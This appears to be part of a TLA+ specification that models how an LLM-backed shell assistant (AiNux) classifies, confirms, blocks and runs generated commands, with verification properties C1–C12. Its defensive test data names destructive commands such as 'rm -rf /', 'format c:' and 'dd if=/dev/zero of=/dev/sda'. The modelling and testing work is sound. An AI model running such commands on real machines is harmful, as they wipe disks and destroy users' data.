    /\ UNCHANGED << platform, use_llm, llm, loopVars, arg, verdict, arg2, verdict2,
                    resolved >>

\* The caller has the dictionary (or the exception); the invocation is over.
Return ==
    /\ pc \in Terminal
    /\ pc' = "Idle"
    /\ command' = ""
    /\ safety' = ""
    /\ response' = <<>>
    /\ asked' = 0
    /\ spawned' = <<>>
    /\ shell' = "none"
    /\ desc' = 0
    /\ completed' = <<>>
    /\ result' = {}
    /\ exc' = ""
    /\ shellCwd' = ""
    /\ matches' = NoMatches
    /\ UNCHANGED << objVars, loopVars, arg, verdict, arg2, verdict2, resolved >>

Next ==
    \/ \E c \in Commands : Call(c)
    \/ Block
    \/ AskConfirm
    \/ \E line \in Responses : Answer(line)
    \/ InputFails
    \/ Spawn
    \/ \E e \in Diagnostics : SpawnFails(e)
    \/ Fork
    \/ \E d \in Dirs : Chdir(d)
    \/ ShellExit
    \/ DescExit
    \/ \E rc \in ReturnCodes, out \in Outputs, err \in Errors : Complete(rc, out, err)
    \/ Expire
    \/ Drain
    \/ Return

Spec == Init /\ [][Next]_vars

----------------------------------------------------------------------------
(* AiNux.execute_command: the base class has no confirmation step *)

NextBase ==
    \/ \E c \in BaseCommands : BaseCall(c)
    \/ Block
    \/ Spawn
    \/ \E e \in Diagnostics : SpawnFails(e)
    \/ Fork
    \/ \E d \in Dirs : Chdir(d)
    \/ ShellExit
    \/ DescExit
    \/ \E rc \in ReturnCodes, out \in Outputs, err \in Errors : Complete(rc, out, err)
    \/ Expire
    \/ Drain
    \/ Return

SpecBase == Init /\ [][NextBase]_vars

----------------------------------------------------------------------------

(* AiNuxLLM.execute_command on the commands of its dangerous_commands list *)

NextListed ==
    \/ \E c \in ListedCommands : Call(c)
    \/ Block
    \/ AskConfirm
    \/ \E line \in Responses : Answer(line)
    \/ InputFails
    \/ Spawn
    \/ \E e \in Diagnostics : SpawnFails(e)
    \/ Fork
    \/ ShellExit
    \/ DescExit
    \/ \E rc \in ReturnCodes, out \in Outputs, err \in Errors : Complete(rc, out, err)
    \/ Expire
    \/ Drain
    \/ Return

SpecListed == Init /\ [][NextListed]_vars

----------------------------------------------------------------------------

(* is_command_safe called on its own, as the tests call it *)

\* The dangerous_commands of the security test.
test_dangerous_commands ==
    { "rm -rf /", "format c:", "shutdown /s /t 0", "del /q /s *.*",
      "dd if=/dev/zero of=/dev/sda" }

\* verdict = ainux.is_command_safe(c)
CheckCommand(c) ==
    /\ pc = "Idle"
    /\ verdict = ""
    /\ arg' = c
    /\ verdict' = is_command_safe(c)
    /\ matches' = Matching(c)
    /\ UNCHANGED << objVars, loopVars, callVars, arg2, verdict2, resolved >>

\* The caller drops the verdict; the next call starts afresh.
Discard ==
    /\ verdict # ""
    /\ arg' = ""
    /\ verdict' = ""
    /\ matches' = NoMatches
    /\ arg2' = ""
    /\ verdict2' = ""
    /\ UNCHANGED << objVars, loopVars, callVars, resolved >>

NextClassify ==
    \/ \E c \in AllCommands : CheckCommand(c)
    \/ Discard

SpecClassify == Init /\ [][NextClassify]_vars

\* Variant: a command this object has already run is taken as safe.
CheckAgain_remembers(c2) ==
    /\ pc \in Terminal \cup { "Idle" }
    /\ verdict # ""
    /\ verdict2 = ""
    /\ arg2' = c2
    /\ verdict2' = IF \E i \in DOMAIN spawned : spawned[i] = c2
                   THEN PyTrue ELSE is_command_safe(c2)
    /\ UNCHANGED << objVars, loopVars, callVars, arg, verdict, matches, resolved >>

\* verdict2 = ainux.is_command_safe(c2): a second call, made once the first
\* has returned and any execute_command call in between has returned too.
CheckAgain(c2) ==
    /\ pc \in Terminal \cup { "Idle" }
    /\ verdict # ""
    /\ verdict2 = ""
    /\ arg2' = c2
    /\ verdict2' = is_command_safe(c2)
    /\ UNCHANGED << objVars, loopVars, callVars, arg, verdict, matches, resolved >>

\* The same command in another letter case or with blanks around it.
Variants(c) == { upper(c), lower(c), " " \o c \o " " }

\* Commands a dangerous command is combined with.
Partners == { "ls -la", "echo hi", "mv a b" }

\* The shell's ways of combining d with another command or a file: pipe,
\* sequence, conjunction, redirection, with and without blanks.
Combined(d) ==
    UNION { { a \o " | " \o d, a \o "|" \o d, a \o "; " \o d, a \o " && " \o d,
              d \o " | " \o a, d \o "; " \o a, d \o ";" \o a, d \o " && " \o a }
            : a \in Partners }
        \cup { d \o " > out.txt", d \o ">out.txt" }

\* A command is classified, then a variant or a combination of it.
NextRelated ==
    \/ \E c \in Atoms : CheckCommand(c)
    \/ \E c2 \in Variants(arg) \cup Combined(arg) : CheckAgain(c2)
    \/ Discard

SpecRelated == Init /\ [][NextRelated]_vars

\* The commands of a session in which is_command_safe is called before and
\* after execute_command.
SessionCommands == { "rm report.txt", "reboot", "cd /tmp" }

\* is_command_safe(c), any number of execute_command calls, then
\* is_command_safe(c) again.
NextSession ==
    \/ \E c \in SessionCommands : CheckCommand(c)
    \/ \E c \in SessionCommands : Call(c)
    \/ Block
    \/ AskConfirm
    \/ \E line \in Responses : Answer(line)
    \/ InputFails
    \/ Spawn
    \/ \E e \in Diagnostics : SpawnFails(e)
    \/ Fork
    \/ \E d \in Dirs : Chdir(d)
    \/ ShellExit
    \/ DescExit
    \/ \E rc \in ReturnCodes, out \in Outputs, err \in Errors : Complete(rc, out, err)
    \/ Expire
    \/ Drain
    \/ Return
    \/ CheckAgain(arg)
    \/ Discard

SpecSession == Init /\ [][NextSession]_vars

\* Requests typed at the prompt.
Texts ==
    { "List all files in the current directory", "Show current working directory",
      "Show running processes", "Create directory myproject",
      "Change directory to Documents", "Go to directory myproject",
      "  show network info ", "Show disk usage", "pwd", "cd /tmp",
      "show python files", "show txt files here", "find process chrome",
      "uptime", "How long has it been running", "system temperature",
      "kill process firefox", "memory used by chrome", "free space on c",
      "find files larger than 10", "show files modified today",
      "files modified last 3 days", "count files in current folder",
      "size of all files", "environment variables", "hello world", "" }

\* The classes that resolve a request with regular expressions.
Classes == { "AiNux", "AiNuxLLM" }

Mappings(class) ==
    IF class = "AiNux" THEN AiNux_command_mappings ELSE command_mappings

\* The intent keys of the tables, and one that is in none.
Intents ==
    DOMAIN command_mappings["linux"] \cup DOMAIN AiNux_command_mappings["linux"]
        \cup { "nonexistent_intent" }

\* base_command = platform_commands.get(command_type), asked for on its own.
Lookup(class, command_type) ==
    /\ pc = "Idle"
    /\ resolved = <<>>
    /\ resolved' = << [ op |-> "lookup", class |-> class, input |-> command_type,
                        value |-> Get(Mappings(class), command_type) ] >>
    /\ UNCHANGED << objVars, loopVars, callVars, checkVars >>

\* command = parse_natural_language(user_input) of AiNux, or
\* _parse_with_regex(user_input) of AiNuxLLM.
Parse(class, user_input) ==
    /\ pc = "Idle"
    /\ resolved = <<>>
    /\ resolved' = << [ op |-> "parse", class |-> class, input |-> user_input,
                        value |-> IF class = "AiNux"
                                  THEN AiNux_parse_natural_language(user_input)
                                  ELSE parse_with_regex(user_input) ] >>
    /\ UNCHANGED << objVars, loopVars, callVars, checkVars >>

\* The caller drops what was resolved.
Forget ==
    /\ resolved # <<>>
    /\ resolved' = <<>>
    /\ UNCHANGED << objVars, loopVars, callVars, checkVars >>

NextResolve ==
    \/ \E class \in Classes, command_type \in Intents : Lookup(class, command_type)
    \/ \E class \in Classes, user_input \in Texts : Parse(class, user_input)
    \/ Forget

SpecResolve == Init /\ [][NextResolve]_vars

----------------------------------------------------------------------------
(* GeminiLLM.generate_command and AiNuxLLM.parse_natural_language *)

\* s + s + ... (n times), built by halving.
RECURSIVE Repeat(_, _)
Repeat(s, n) ==
    IF n = 0 THEN ""
    ELSE IF n = 1 THEN s
    ELSE Repeat(s, n \div 2) \o Repeat(s, n - n \div 2)

\* A response one character longer than _extract_command accepts.
LongText == Repeat("x", MaxCommandLength + 1)

\* What response.text may hold.
LLMTexts ==
    { "ls -la", "Command: pwd", "$ \"ls -la\"", "rm -rf /", "rm report.txt",
      "INVALID_REQUEST", " error\n", "\"error\"", "'Unknown'", "\"\"", "", LongText }

\* Requests handed to parse_natural_language.
ParseTexts == { "Show disk usage", "hello world", "kill process firefox" }

\* self.use_llm and self.llm and self.llm.available
UsesLLM == use_llm /\ llm = "available"

\* An optional string used as a condition: None and '' are false.
Truthy(v) == v # {} /\ The(v) # ""

\* generate_command entered by 'by' with the service available: the for loop
\* is at its first attempt.
Started(user_input, by) ==
    [ NoGen EXCEPT !.at = "Trying", !.by = by, !.user_input = user_input ]

\* 'if not self.available: return None'
Refused(user_input, by) ==
    [ NoGen EXCEPT !.at = "Returned", !.by = by, !.user_input = user_input ]

\* Variant: range(max_retries + 1).
NextAttempt_one_more(g) ==
    IF g.attempt + 1 < max_retries + 1
    THEN [ g EXCEPT !.at = "Trying", !.attempt = g.attempt + 1 ]
    ELSE [ g EXCEPT !.at = "Returned", !.ret = {} ]

\* The for loop moves on after attempt g.attempt, or is exhausted.
NextAttempt(g) ==
    IF g.attempt + 1 < max_retries
    THEN [ g EXCEPT !.at = "Trying", !.attempt = g.attempt + 1 ]
    ELSE [ g EXCEPT !.at = "Returned", !.ret = {} ]

\* A test calls llm.generate_command(user_input, platform) on the GeminiLLM.
GenCall(user_input) ==
    /\ loop.at = "Off"
    /\ pc = "Idle"
    /\ resolved = <<>>
    /\ gen.at \in { "Idle", "Done" }
    /\ llm # "none"
    /\ gen' = IF llm = "available" THEN Started(user_input, "test")
              ELSE Refused(user_input, "test")
    /\ UNCHANGED << objVars, loop, callVars, checkVars, resolved >>

\* model.generate_content returns; response.text is 'text'.
GenRespond(text) ==
    /\ gen.at = "Trying"
    /\ LET command_ == IF text # "" THEN extract_command(text) ELSE {}
           g == [ gen EXCEPT !.calls = gen.calls + 1, !.raised = FALSE,
                             !.text = text, !.command = command_ ]
       IN  gen' = IF Truthy(command_)
                  THEN [ g EXCEPT !.at = "Returned", !.ret = command_ ]
                  ELSE NextAttempt(g)
    /\ UNCHANGED << objVars, loop, callVars, checkVars, resolved >>

\* The request, or reading response.text, raises: the handler prints and, if
\* this was not the last attempt, calls time.sleep(1).
GenRaise ==
    /\ gen.at = "Trying"
    /\ LET g == [ gen EXCEPT !.calls = gen.calls + 1, !.raised = TRUE,
                             !.text = "", !.command = {} ]
       IN  gen' = IF gen.attempt < max_retries - 1
                  THEN [ g EXCEPT !.at = "Sleeping", !.sleeps = gen.sleeps + 1 ]
                  ELSE NextAttempt(g)
    /\ UNCHANGED << objVars, loop, callVars, checkVars, resolved >>

\* time.sleep(1) returns.
GenWake ==
    /\ gen.at = "Sleeping"
    /\ gen' = NextAttempt(gen)
    /\ UNCHANGED << objVars, loop, callVars, checkVars, resolved >>

\* The test has the value generate_command returned.
GenDone ==
    /\ gen.at = "Returned"
    /\ gen.by = "test"
    /\ gen' = [ gen EXCEPT !.at = "Done" ]
    /\ UNCHANGED << objVars, loop, callVars, checkVars, resolved >>

\* Variant: whatever the model produced is returned without a look at it.
parse_result_unchecked(user_input, ret) ==
    IF Truthy(ret) THEN ret ELSE parse_with_regex(user_input)

\* What parse_natural_language returns once generate_command has returned ret:
\* 'if command and self.is_command_safe(command): return command', else the
\* regex result.
parse_result(user_input, ret) ==
    IF Truthy(ret) /\ is_command_safe(The(ret)) # PyFalse
    THEN ret
    ELSE parse_with_regex(user_input)

\* What a caller of parse_natural_language keeps: the value, with the regex
\* result for the same input next to it.
Parsed(user_input, value) ==
    [ op |-> "parse_natural_language", class |-> "AiNuxLLM", input |-> user_input,
      value |-> value, regex |-> parse_with_regex(user_input) ]

\* Variant: without the service nothing is resolved.
ParseCall_llm_only(user_input) ==
    /\ loop.at = "Off"
    /\ pc = "Idle"
    /\ resolved = <<>>
    /\ gen.at \in { "Idle", "Done" }
    /\ IF UsesLLM
       THEN /\ gen' = Started(user_input, "parse")
            /\ UNCHANGED resolved
       ELSE /\ gen' = NoGen
            /\ resolved' = << Parsed(user_input, {}) >>
    /\ UNCHANGED << objVars, loop, callVars, checkVars >>

\* A caller invokes parse_natural_language(user_input): with the service in
\* use generate_command is entered, otherwise the regex result is returned.
ParseCall(user_input) ==
    /\ loop.at = "Off"
    /\ pc = "Idle"
    /\ resolved = <<>>
    /\ gen.at \in { "Idle", "Done" }
    /\ IF UsesLLM
       THEN /\ gen' = Started(user_input, "parse")
            /\ UNCHANGED resolved
       ELSE /\ gen' = NoGen
            /\ resolved' = << Parsed(user_input, parse_with_regex(user_input)) >>
    /\ UNCHANGED << objVars, loop, callVars, checkVars >>

\* generate_command has returned to parse_natural_language, which returns.
ParseReturn ==
    /\ loop.at = "Off"
    /\ gen.at = "Returned"
    /\ gen.by = "parse"
    /\ gen' = [ gen EXCEPT !.at = "Done" ]
    /\ resolved' = << Parsed(gen.user_input, parse_result(gen.user_input, gen.ret)) >>
    /\ UNCHANGED << objVars, loop, callVars, checkVars >>

NextLLM ==
    \/ \E user_input \in ParseTexts : GenCall(user_input)
    \/ \E text \in LLMTexts : GenRespond(text)
    \/ GenRaise
    \/ GenWake
    \/ GenDone
    \/ \E user_input \in ParseTexts : ParseCall(user_input)
    \/ ParseReturn
    \/ Forget

SpecLLM == Init /\ [][NextLLM]_vars

\* generate_command called on its own.
NextGen ==
    \/ \E user_input \in ParseTexts : GenCall(user_input)
    \/ \E text \in LLMTexts : GenRespond(text)
    \/ GenRaise
    \/ GenWake
    \/ GenDone

SpecGen == Init /\ [][NextGen]_vars

\* A request that does not return ends with an exception of the transport,
\* and a sleep ends.
FairSpecGen ==
    /\ SpecGen
    /\ WF_vars(GenRaise)
    /\ WF_vars(GenWake)

\* The runtime's timer fires and the code takes its next step; nothing
\* obliges a process to exit.
FairSpec ==
    /\ Spec
    /\ WF_vars(Expire)
    /\ WF_vars(Drain)
    /\ WF_vars(\E rc \in ReturnCodes, out \in Outputs, err \in Errors : Complete(rc, out, err))

----------------------------------------------------------------------------
(* run_interactive_mode of AiNux and of AiNuxLLM *)

ExitTokens == { "exit", "quit", "q", "bye" }

HelpTokens == { "help", "h", "?" }

\* The tokens AiNuxLLM answers with show_mode_info.
ModeTokens == { "mode", "info", "status" }

\* Lines typed at the prompt.
LoopLines ==
    { "exit", " QUIT ", "", "help", "Mode", "Show disk usage", "hello world",
      "cd reboot", "cd /tmp" }

\* What listen_for_command returns: None, or the phrase trimmed and in lower case.
Heard == { {}, { "bye" }, { "show disk usage" }, { "hello world" } }

\* What response.text may hold while the loop runs.
LoopTexts == { "ls -la", "rm report.txt", "rm -rf /", "" }

\* Lines typed at the confirmation prompt while the loop runs.
LoopResponses == { "yes", "no" }

\* Variant: the tokens are compared as typed.
Handled_case_sensitive(class, u) ==
    IF u \in ExitTokens THEN "exit"
    ELSE IF u = "" THEN "skip"
    ELSE IF u \in HelpTokens THEN "help"
    ELSE IF class = "AiNuxLLM" /\ u \in ModeTokens THEN "mode"
    ELSE "parse"

\* The chain of tests on user_input: leave the loop, continue at once, print
\* the help or the mode information, or go on to parse_natural_language.
Handled(class, u) ==
    IF lower(u) \in ExitTokens THEN "exit"
    ELSE IF u = "" THEN "skip"
    ELSE IF lower(u) \in HelpTokens THEN "help"
    ELSE IF class = "AiNuxLLM" /\ lower(u) \in ModeTokens THEN "mode"
    ELSE "parse"

\* The loop record once user_input is u.
Turn(l, u, event) ==
    [ l EXCEPT !.last = << u >>, !.event = event, !.parsed = FALSE,
               !.candidate = {}, !.executions = 0 ]

\* Variant: the loop hands the command to the executor as safe.
Invoke_unclassified(class, c) ==
    /\ command' = c
    /\ safety' = PyTrue
    /\ pc' = "Classified"
    /\ matches' = IF class = "AiNux"
                  THEN [ forbidden |-> ContainsBaseEntry(c), confirmable |-> FALSE ]
                  ELSE Matching(c)
    /\ UNCHANGED << response, asked, spawned, shell, desc, completed, result, exc,
                    shellCwd >>

\* result = self.execute_command(command), up to the verdict of the class's
\* own is_command_safe.
Invoke(class, c) ==
    /\ command' = c
    /\ safety' = IF class = "AiNux" THEN AiNux_is_command_safe(c) ELSE is_command_safe(c)
    /\ pc' = "Classified"
    /\ matches' = IF class = "AiNux"
                  THEN [ forbidden |-> ContainsBaseEntry(c), confirmable |-> FALSE ]
                  ELSE Matching(c)
    /\ UNCHANGED << response, asked, spawned, shell, desc, completed, result, exc,
                    shellCwd >>

\* command = self.parse_natural_language(user_input) has returned 'candidate':
\* None sends the loop back to its top, anything else is executed.
Proceed(l, candidate) ==
    IF candidate = {}
    THEN /\ loop' = [ l EXCEPT !.at = "Prompt", !.candidate = {} ]
         /\ UNCHANGED << callVars, matches >>
    ELSE /\ loop' = [ l EXCEPT !.at = "Executing", !.candidate = candidate,
                               !.executions = l.executions + 1 ]
         /\ Invoke(l.class, The(candidate))

\* One pass through the loop body from the point where user_input is u and
\* the event that produced it is 'event'.
Take(u, event) ==
    LET l == Turn(loop, u, event)
        h == Handled(loop.class, u)
    IN  /\ IF h = "exit"
           THEN /\ loop' = [ l EXCEPT !.at = "Ended", !.how = "exit" ]
                /\ UNCHANGED << gen, callVars, matches >>
           ELSE IF h # "parse"
           THEN /\ loop' = [ l EXCEPT !.at = "Prompt" ]
                /\ UNCHANGED << gen, callVars, matches >>
           ELSE IF loop.class = "AiNuxLLM" /\ UsesLLM
           THEN /\ loop' = [ l EXCEPT !.at = "Parsing", !.parsed = TRUE ]
                /\ gen' = Started(u, "loop")
                /\ UNCHANGED << callVars, matches >>
           ELSE /\ UNCHANGED gen
                /\ Proceed([ l EXCEPT !.parsed = TRUE ],
                           IF loop.class = "AiNux"
                           THEN AiNux_parse_natural_language(u)
                           ELSE parse_with_regex(u))
        /\ UNCHANGED << objVars, arg, verdict, arg2, verdict2, resolved >>

\* run_interactive_mode(voice) is called.  AiNuxLLM imports voice_input
\* before the loop and clears 'voice' if that fails.
LoopEnter(class, voice, importable) ==
    /\ loop.at = "Off"
    /\ pc = "Idle"
    /\ gen.at = "Idle"
    /\ resolved = <<>>
    /\ verdict = ""
    /\ loop' = [ NoLoop EXCEPT !.at = "Prompt", !.class = class,
                               !.voice = IF class = "AiNuxLLM"
                                         THEN voice /\ importable ELSE voice,
                               !.importable = importable ]
    /\ UNCHANGED << objVars, gen, callVars, checkVars, resolved >>

\* At the top of the loop in voice mode.
Listening == loop.at = "Prompt" /\ loop.voice

\* At a text prompt: the one of text mode, or the one of a handler of the
\* voice branch.
Prompting == (loop.at = "Prompt" /\ ~loop.voice) \/ loop.at = "TextFallback"

\* AiNux imports voice_input in every iteration: ImportError clears 'voice'
\* and the handler asks at the text prompt.
ImportFails ==
    /\ Listening
    /\ ~loop.importable
    /\ loop' = [ loop EXCEPT !.at = "TextFallback", !.voice = FALSE,
                             !.event = "import_failed" ]
    /\ UNCHANGED << objVars, gen, callVars, checkVars, resolved >>

\* listen_for_command returns.
Hear(heard) ==
    /\ Listening
    /\ loop.importable
    /\ Take(IF heard = {} THEN "" ELSE strip(The(heard)), "heard")

\* listen_for_command raises (VoiceInputError, or another Exception).  AiNux
\* catches it next to the call and asks at the text prompt; in AiNuxLLM it
\* reaches the handler of the loop, which continues.
HearFails ==
    /\ Listening
    /\ loop.importable
    /\ loop' = [ loop EXCEPT !.at = IF loop.class = "AiNux"
                                    THEN "TextFallback" ELSE "Prompt",
                             !.event = "voice_failed" ]
    /\ UNCHANGED << objVars, gen, callVars, checkVars, resolved >>

\* input("AiNux> ") returns a line.
ReadLine(line) ==
    /\ Prompting
    /\ Take(strip(line), "line")

\* input("AiNux> ") raises EOFError: the handler of the loop prints and the
\* loop goes on.
ReadFails ==
    /\ Prompting
    /\ loop' = [ loop EXCEPT !.at = "Prompt", !.event = "input_failed" ]
    /\ UNCHANGED << objVars, gen, callVars, checkVars, resolved >>

\* Ctrl-C while the loop waits for input.
Interrupt ==
    /\ Listening \/ Prompting
    /\ loop' = [ loop EXCEPT !.at = "Ended", !.how = "KeyboardInterrupt",
                             !.event = "interrupted" ]
    /\ UNCHANGED << objVars, gen, callVars, checkVars, resolved >>

\* generate_command has returned to parse_natural_language, which returns to
\* the loop.
LoopParsed ==
    /\ loop.at = "Parsing"
    /\ gen.at = "Returned"
    /\ gen.by = "loop"
    /\ gen' = [ gen EXCEPT !.at = "Done" ]
    /\ Proceed(loop, parse_result(gen.user_input, gen.ret))
    /\ UNCHANGED << objVars, arg, verdict, arg2, verdict2, resolved >>

\* execute_command has returned, or raised: display_result, or the handler
\* of the loop, and back to the top.
LoopReturn ==
    /\ loop.at = "Executing"
    /\ pc \in Terminal
    /\ loop' = [ loop EXCEPT !.at = "Prompt",
                             !.event = IF exc = "" THEN "displayed" ELSE "execute_raised" ]
    /\ pc' = "Idle"
    /\ command' = ""
    /\ safety' = ""
    /\ response' = <<>>
    /\ asked' = 0
    /\ spawned' = <<>>
    /\ shell' = "none"
    /\ desc' = 0
    /\ completed' = <<>>
    /\ result' = {}
    /\ exc' = ""
    /\ shellCwd' = ""
    /\ matches' = NoMatches
    /\ UNCHANGED << objVars, gen, arg, verdict, arg2, verdict2, resolved >>

NextLoop ==
    \/ \E class \in Classes, voice \in BOOLEAN, importable \in BOOLEAN :
          LoopEnter(class, voice, importable)
    \/ ImportFails
    \/ \E heard \in Heard : Hear(heard)
    \/ HearFails
    \/ \E line \in LoopLines : ReadLine(line)
    \/ ReadFails
    \/ Interrupt
    \/ \E text \in LoopTexts : GenRespond(text)
    \/ GenRaise
    \/ GenWake
    \/ LoopParsed
    \/ Block
    \/ AskConfirm
    \/ \E line \in LoopResponses : Answer(line)
    \/ InputFails
    \/ Spawn
    \/ \E e \in Diagnostics : SpawnFails(e)
    \/ Fork
    \/ \E d \in Dirs : Chdir(d)
    \/ ShellExit
    \/ DescExit
    \/ \E rc \in ReturnCodes : Complete(rc, "out", "")
    \/ Expire
    \/ Drain
    \/ LoopReturn

SpecLoop == Init /\ [][NextLoop]_vars

----------------------------------------------------------------------------

(* Helpers of the properties *)

\* An invocation is under way or has just ended.
InCall == pc # "Idle"

\* is_command_safe has been called on its own.
Checked == verdict # ""

----------------------------------------------------------------------------
(* Properties *)

\* C1: a command that matches a forbidden pattern gets the verdict False, and
\* execute_command answers it with the blocked dictionary (success False,
\* empty output, the command echoed) without asking for confirmation and
\* without calling subprocess.run.
C1_ForbiddenIsBlocked ==
    (InCall /\ matches.forbidden) =>
        /\ safety = PyFalse
        /\ asked = 0
        /\ spawned = <<>>
        /\ shell = "none"
        /\ pc \in { "Classified", "Blocked" }
        /\ pc = "Blocked" =>
              /\ result # {}
              /\ \A r \in result :
                    ~r.success /\ r.output = "" /\ r.command = command

C1_Witness ==
    /\ pc = "Blocked"
    /\ matches.forbidden
    /\ result = { BlockedResult(command) }

\* C2: "rm -rf /tmp/testdir" is classified Confirm, and when the answer to the
\* prompt is "no" the call returns success False with an error containing
\* "cancelled", the command echoed, and nothing spawned.
C2_AbsolutePathIsConfirm ==
    (InCall /\ command = "rm -rf /tmp/testdir") =>
        /\ safety = Confirm
        /\ (pc \in Terminal /\ response = << "no" >>) =>
              /\ spawned = <<>>
              /\ result # {}
              /\ \A r \in result :
                    /\ ~r.success
                    /\ Contains(r.error, "cancelled")
                    /\ r.command = "rm -rf /tmp/testdir"

\* C3 as stated: for a Confirm command the shell is invoked exactly when the
\* line read equals "YES" up to letter case; any other line cancels.
C3_ExactTokenOnly ==
    (safety = Confirm /\ response # <<>>) =>
        IF upper(response[1]) = "YES"
        THEN /\ pc # "Cancelled"
             /\ pc \in Terminal => Len(spawned) = 1
        ELSE /\ pc = "Cancelled"
             /\ spawned = <<>>
             /\ result = { CancelledResult(command) }

\* C3 amended: for a Confirm command the shell is invoked exactly when the
\* line read, with leading and trailing whitespace removed, equals "YES" up
\* to letter case; any other line yields the cancelled dictionary and no call
\* of subprocess.run.
C3_TrimmedToken ==
    (safety = Confirm /\ response # <<>>) =>
        IF upper(strip(response[1])) = "YES"
        THEN /\ pc \in { "Confirmed", "Running", "Draining", "Completed",
                         "TimedOut", "SpawnFailed" }
             /\ pc # "Confirmed" => spawned = << command >>
        ELSE /\ pc = "Cancelled"
             /\ spawned = <<>>
             /\ shell = "none"
             /\ result = { CancelledResult(command) }
             /\ \A r \in result : ~r.success /\ Contains(r.error, "cancelled")

C3_Witness ==
    /\ safety = Confirm
    /\ response = << " yes " >>
    /\ pc = "Running"
    /\ spawned = << command >>

\* C4: a command that matches both a forbidden and a confirmable pattern, in
\* either textual order, gets the verdict False and never "confirm".
C4_ForbiddenWins ==
    (Checked /\ matches.forbidden /\ matches.confirmable) =>
        verdict = PyFalse

C4_Witness ==
    /\ arg = "mv a b | rm -rf /"
    /\ matches.forbidden
    /\ matches.confirmable
    /\ verdict = PyFalse

\* C5: is_command_safe returns one of three verdicts for every string:
\* "confirm" exactly when no forbidden pattern and some confirmable pattern
\* matches, True exactly when neither matches; the empty and the
\* whitespace-only string are safe.
C5_ThreeWayClassification ==
    Checked =>
        /\ verdict \in Verdicts
        /\ verdict = PyFalse <=> matches.forbidden
        /\ verdict = Confirm <=>
              (~matches.forbidden /\ matches.confirmable)
        /\ verdict = PyTrue <=>
              (~matches.forbidden /\ ~matches.confirmable)
        /\ strip(arg) = "" => verdict = PyTrue

C5_Witness ==
    /\ Checked
    /\ arg = " "
    /\ verdict = PyTrue

\* C6 as stated: a result with success True has exit code 0 and an empty
\* error field.
C6_SuccessHasEmptyError ==
    \A r \in result :
        r.success =>
            /\ "return_code" \in DOMAIN r
            /\ r.return_code = 0
            /\ r.error = ""

\* C6 amended: a result with success True stems from a command that ran to
\* completion, has exit code 0, and its error field is the trimmed stderr of
\* the command, which may be non-empty.
C6_SuccessHasZeroExit ==
    \A r \in result :
        r.success =>
            /\ pc = "Completed"
            /\ "return_code" \in DOMAIN r
            /\ r.return_code = 0
            /\ completed[1].returncode = 0
            /\ r.error = strip(completed[1].stderr)

C6_Witness ==
    /\ pc = "Completed"
    /\ \E r \in result : r.success /\ r.return_code = 0 /\ r.error = "warn"

\* C7 as stated: a result with success False has a non-empty error field or
\* stems from a command blocked or cancelled before running (and then has no
\* exit code); a command that ran and exited non-zero has a non-empty error.
C7_FailureHasError ==
    \A r \in result :
        ~r.success =>
            /\ \/ r.error # ""
               \/ pc \in { "Blocked", "Cancelled" } /\ "return_code" \notin DOMAIN r
            /\ pc = "Completed" => r.error # ""

\* C7 amended: a result with success False has a non-empty error field, or
\* stems from a command that ran to completion with a non-zero exit code and
\* nothing but whitespace on stderr (the exit code is then recorded and the
\* error field is empty); blocked, cancelled, timed-out and failed-to-start
\* results have a non-empty error and no exit code.
C7_FailureHasErrorOrExitCode ==
    \A r \in result :
        ~r.success =>
            /\ \/ r.error # ""
               \/ /\ pc = "Completed"
                  /\ "return_code" \in DOMAIN r
                  /\ r.return_code # 0
                  /\ strip(completed[1].stderr) = ""
            /\ pc \in { "Blocked", "Cancelled", "TimedOut", "SpawnFailed" } =>
                  r.error # "" /\ "return_code" \notin DOMAIN r

C7_Witness ==
    /\ pc = "Completed"
    /\ \E r \in result : ~r.success /\ r.error = "" /\ r.return_code = 1

\* C8: for a command run to completion, success is (exit code = 0) whatever
\* stderr holds, output is the trimmed stdout, error the trimmed stderr, and
\* the exit code is recorded.
C8_CompletedResultShape ==
    pc = "Completed" =>
        /\ Len(completed) = 1
        /\ result = { [ success |-> (completed[1].returncode = 0),
                        output |-> strip(completed[1].stdout),
                        error |-> strip(completed[1].stderr),
                        command |-> command,
                        return_code |-> completed[1].returncode ] }

C8_Witness ==
    /\ pc = "Completed"
    /\ completed = << [ returncode |-> 0, stdout |-> " out\n", stderr |-> " err \n" ] >>
    /\ \E r \in result : r.success /\ r.output = "out" /\ r.error = "err"

\* C9: a spawned command never blocks the caller for good: the call either
\* completes or, the budget spent, returns the timeout dictionary (success
\* False, "timed out after 30 seconds", the command echoed, no exit code).
C9_TimeoutAlwaysReturns ==
    (pc = "Running") ~>
        \/ pc = "Completed"
        \/ /\ pc = "TimedOut"
           /\ result = { TimeoutResult(command) }

\* C10: when execute_command returns a timeout result, the shell child and
\* every process it started have been terminated.
C10_TimeoutKillsProcessTree ==
    pc = "TimedOut" => (shell # "running" /\ desc = 0)

\* C11: execute_command never lets an exception escape: whatever the
\* confirmation outcome (the prompt's input failing included) and whatever
\* the process runner does, the call ends with a result dictionary.
C11_NoExceptionEscapes ==
    pc \in Terminal =>
        /\ exc = ""
        /\ result # {}
        /\ \A r \in result : r.command = command

\* The state of the invocation as the state machine of execute_command names
\* it: the wait for the pipes after the kill is still inside subprocess.run.
Phase == IF pc = "Draining" THEN "Running" ELSE pc

\* The transitions of one invocation, and its start and end.
ListedTransitions ==
    { << "Idle", "Classified" >>,
      << "Classified", "Blocked" >>,
      << "Classified", "AwaitingConfirmation" >>,
      << "AwaitingConfirmation", "Cancelled" >>,
      << "AwaitingConfirmation", "Confirmed" >>,
      << "Classified", "Running" >>,
      << "Confirmed", "Running" >>,
      << "Running", "Completed" >>,
      << "Running", "TimedOut" >>,
      << "Running", "SpawnFailed" >>,
      << "Blocked", "Idle" >>,
      << "Cancelled", "Idle" >>,
      << "Completed", "Idle" >>,
      << "TimedOut", "Idle" >>,
      << "SpawnFailed", "Idle" >> }

\* subprocess.run is entered and raises within one step.
EntersAndFails ==
    /\ Phase \in { "Classified", "Confirmed" }
    /\ Phase' = "SpawnFailed"
    /\ Len(spawned') = Len(spawned) + 1

\* C12: an invocation follows only Classified -> Blocked, Classified ->
\* AwaitingConfirmation -> Cancelled, Classified -> [AwaitingConfirmation ->
\* Confirmed ->] Running -> Completed | TimedOut | SpawnFailed and ends in
\* one of these terminal states; the prompt is shown at most once, only for
\* the verdict "confirm" and before any spawn; the shell is invoked at most
\* once.
C12_OnlyListedTransitions ==
    [][ /\ Phase' # Phase => (<< Phase, Phase' >> \in ListedTransitions \/ EntersAndFails)
        /\ asked' <= 1
        /\ asked' > asked => (safety' = Confirm /\ spawned' = <<>>)
        /\ (spawned' # <<>> /\ safety' = Confirm) => asked' = 1
